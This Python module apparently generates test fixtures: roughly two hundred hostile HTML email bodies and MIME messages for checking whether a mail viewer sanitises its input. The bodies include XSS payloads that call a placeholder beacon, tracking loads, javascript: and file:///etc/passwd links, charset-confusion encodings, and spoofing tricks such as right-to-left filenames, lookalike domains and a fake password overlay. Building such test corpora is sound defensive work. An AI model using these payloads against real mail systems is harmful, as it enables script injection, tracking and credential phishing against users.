"""Hostile mail for whoever shows it: two hundred bodies that try to run, load, lead away or deceive.

`{beacon}` is where anything that is loaded or run would call.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

CALL = "fetch('{beacon}')"
SCRIPTS = [
    "<script>" + CALL + "</script>",
    "<SCRIPT >" + CALL + "</SCRIPT >",
    "<script/x>" + CALL + "</script>",
    "<scr<script>ipt>" + CALL + "</scr</script>ipt>",
    "<script src='{beacon}'></script>",
    "<script src={beacon}>",
    "<script type=module>import '{beacon}'</script>",
    "<noscript><p title='</noscript><script>" + CALL + "</script>'>",
    "<title><script>" + CALL + "</script></title>",
    "<textarea></textarea><script>" + CALL + "</script>",
    "<style></style><script>" + CALL + "</script>",
    "<!--><script>" + CALL + "</script>-->",
    "<![CDATA[<script>" + CALL + "</script>]]>",
    "<?xml version='1.0'?><script>" + CALL + "</script>",
    '<math><mtext><table><mglyph><style><img src=x onerror="' + CALL + '">',
    '<svg><style><img src=x onerror="' + CALL + '"></style></svg>',
    "<svg><script>" + CALL + "</script></svg>",
    "<svg><script href='{beacon}'/></svg>",
    '<svg/onload="' + CALL + '">',
    '<svg><animate onbegin="' + CALL + '" attributeName=x dur=1s>',
    '<svg><set attributeName=onload to="' + CALL + '"/></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='x'/>#x\"/></svg>",
    '<svg><foreignObject><body onload="' + CALL + '"></foreignObject></svg>',
    "<svg><a xlink:href='javascript:" + CALL + "'><text y=20>klik</text></a></svg>",
    '<math href="javascript:' + CALL + '">klik</math>',
    "<template><script>" + CALL + "</script></template>",
    '<iframe srcdoc="<script>' + CALL + '</script>"></iframe>',
    '<iframe src="javascript:' + CALL + '"></iframe>',
    "<iframe src='{beacon}'></iframe>",
    "<object data='{beacon}'></object>",
    '<object data="data:text/html,<script>' + CALL + '</script>"></object>',
    "<embed src='{beacon}'>",
    "<applet code='x' archive='{beacon}'></applet>",
    "<frameset><frame src='{beacon}'></frameset>",
    "<portal src='{beacon}'></portal>",
]
HANDLERS = [
    "onload", "onerror", "onclick autofocus tabindex=1 onfocus", "onmouseover", "onanimationstart", "ontoggle", "onpageshow", "onscroll",
    "onwheel",
    "onbeforeinput", "oncontentvisibilityautostatechange", "onwheel",
]  # fmt: skip
CARRIERS = [
    '<img src=x {handler}="' + CALL + '">',
    '<body {handler}="' + CALL + '">',
    '<details open {handler}="' + CALL + '"><summary>x</summary></details>',
    '<input autofocus {handler}="' + CALL + '">',
    "<p style='animation:x 1s;content-visibility:auto' {handler}=\"" + CALL + '">tekst</p>',
    '<video src=x {handler}="' + CALL + '"></video>',
    '<a href=# {handler}="' + CALL + '">klik</a>',
]
LOADS = [
    "<img src='{beacon}'>",
    "<img srcset='{beacon} 1x'>",
    "<img lowsrc='{beacon}' dynsrc='{beacon}'>",
    "<picture><source srcset='{beacon}'><img></picture>",
    "<video poster='{beacon}'></video>",
    "<video><source src='{beacon}'></video>",
    "<audio src='{beacon}' autoplay></audio>",
    "<track src='{beacon}'>",
    "<link rel=stylesheet href='{beacon}'>",
    "<link rel=prefetch href='{beacon}'>",
    "<link rel=dns-prefetch href='{beacon}'>",
    "<link rel=preconnect href='{beacon}'>",
    "<link rel=icon href='{beacon}'>",
    "<link rel=manifest href='{beacon}'>",
    "<link rel=modulepreload href='{beacon}'>",
    "<style>@import '{beacon}';</style>",
    "<style>@import url({beacon});</style>",
    "<style>body{background:url('{beacon}')}</style>",
    "<style>@font-face{font-family:x;src:url('{beacon}')}p{font-family:x}</style><p>x</p>",
    "<style>p::before{content:url('{beacon}')}</style><p>x</p>",
    "<style>li{list-style-image:url('{beacon}')}</style><ul><li>x</ul>",
    "<style>p{cursor:url('{beacon}'),auto}</style><p>x</p>",
    "<style>p{border-image:url('{beacon}') 1}</style><p>x</p>",
    "<style>p{mask:url('{beacon}');filter:url('{beacon}#f')}</style><p>x</p>",
    "<p style=\"background:url('{beacon}')\">x</p>",
    "<p style=\"background-image:image-set('{beacon}' 1x)\">x</p>",
    "<table background='{beacon}'><tr><td background='{beacon}'>x</table>",
    "<body background='{beacon}'>",
    "<bgsound src='{beacon}'>",
    "<input type=image src='{beacon}'>",
    "<svg><image href='{beacon}'/></svg>",
    "<svg><feImage href='{beacon}'/></svg>",
    "<svg><style>@import '{beacon}';</style></svg>",
    "<svg fill=\"url('{beacon}#x')\"><rect width=9 height=9 /></svg>",
    "<?xml-stylesheet href='{beacon}'?>",
    "<meta http-equiv=refresh content='0;url={beacon}'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,x'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\"><img src='{beacon}'>",
    "<meta http-equiv=set-cookie content='a=b'>",
    "<base href='{beacon}'><a href=x>klik</a><img src=x>",
    "<form action='{beacon}'><button autofocus>x</button></form><script>document.forms[0].submit()</script>",
    "<isindex action='{beacon}' type=submit>",
    "<a href='{beacon}' ping='{beacon}' target=_top>klik</a>",
    "<a href='{beacon}' download>klik</a>",
    "<fencedframe src='{beacon}'></fencedframe>",
]
LINKS = [
    "javascript:{call}", "JaVaScRiPt:{call}", "java\tscript:{call}", "java\nscript:{call}", " javascript:{call}", "\x01javascript:{call}",
    "&#106;avascript:{call}", "&#x6A;avascript:{call}", "javascript&colon;{call}", "vbscript:{call}", "data:text/html,<script>{call}</script>",
    "data:text/html;base64,PHNjcmlwdD4=", "file:///etc/passwd", "blob:x", "view-source:{beacon}", "//127.0.0.1/x", "\\\\\\\\127.0.0.1\\\\x",
    "ms-word:ofe|u|{beacon}", "search-ms:query=x", "intent://x#Intent;end",
]  # fmt: skip
DECEITS = [
    "<p>factuur\u202efdp.exe</p>",
    "<p>\u2066\u2067verkeerd\u2069 om</p>",
    "<p>bank\u200b.example</p>",
    "<p>аррlе.example (kyrillisch)</p>",
    "<p>ｇｏｏｇｌｅ.example</p>",
    "<a href='https://evil.example'>https://school.example</a>",
    "<a href='https://school.example@evil.example'>school</a>",
    "<a href='https://xn--80ak6aa92e.example'>school</a>",
    "<a name=main id=main href='#main'>x</a><div id=form>",
    "<img name=body><form name=getElementById>",
    "<p id=__proto__ class=constructor>x</p>",
    "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>Vul uw wachtwoord in</div>",
    "<dialog open><form method=post action='/sign-out'><button autofocus>Verder</button></form></dialog>",
    "<p hidden>verborgen</p><p style='display:none'>ook</p>",
    "<plaintext><b>alles hierna",
    "<xmp><script>x</script></xmp>",
    "<listing><img src='{beacon}'></listing>",
    "</body></html><script>" + CALL + "</script>",
    "</pre></iframe><script>" + CALL + "</script>",
    "\x00<scr\x00ipt>" + CALL + "</scr\x00ipt>",
    "<p>" * 2000 + "diep",
    "<b" + " a" * 3000 + ">lang</b>",
    "<" * 5000,
    "&" * 5000 + "&#x110000;&#xD800;&#0;",
    "\ufeff\ufffe\ufffftekst",
]
CHARSETS = [
    ("utf-7", "+ADw-script+AD4-{call}+ADw-/script+AD4-"),
    ("iso-2022-jp", "\x1b$B<script>{call}</script>\x1b(B"),
    ("x-user-defined", "<img src='{beacon}'>"),
    ("hz-gb-2312", "~{<script>~}{call}"),
    ("utf-16", "<script>{call}</script>"),
]


def bodies(beacon: str) -> Iterator[str]:
    """Every body, each once."""
    call = CALL.replace("{beacon}", beacon)
    patterns = [*SCRIPTS, *LOADS, *DECEITS]
    patterns += [carrier.replace("{handler}", handler) for carrier, handler in product(CARRIERS, HANDLERS)]
    patterns += [f'<a href="{link}" autofocus>klik</a><iframe src="{link}"></iframe>' for link in LINKS]
    patterns += [text for _, text in CHARSETS]
    for pattern in patterns:
        yield pattern.replace("{call}", call).replace("{beacon}", beacon)


def messages(beacon: str) -> Iterator[bytes]:
    """The same as mail: HTML, HTML that says it is text, text that is HTML, and parts that say two things."""
    for number, body in enumerate(bodies(beacon)):
        kind = ("text/html", "text/html; charset=utf-8", "TEXT/HTML ;x=y", "text/html; charset=utf-8")[number % 4]
        head = f"From: a@b.example\r\nSubject: {number}\r\nMIME-Version: 1.0\r\nContent-Type: {kind}\r\n\r\n"
        yield head.encode() + body.encode("utf-8", "surrogatepass")
    for charset, text in CHARSETS:
        head = f"From: a@b.example\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset={charset}\r\n\r\n"
        yield head.encode() + text.replace("{beacon}", beacon).encode()
    whole = "<script>fetch('" + beacon + "')</script><img src='" + beacon + "'>"
    for kind in ("text/plain", "text/xml", "image/svg+xml", "application/xhtml+xml", "text/plain; name=x.html", ""):
        head = (
            f"From: a@b.example\r\nMIME-Version: 1.0\r\nContent-Type: {kind}\r\n\r\n"
            if kind
            else "From: a@b.example\r\n\r\n"
        )
        yield head.encode() + whole.encode()
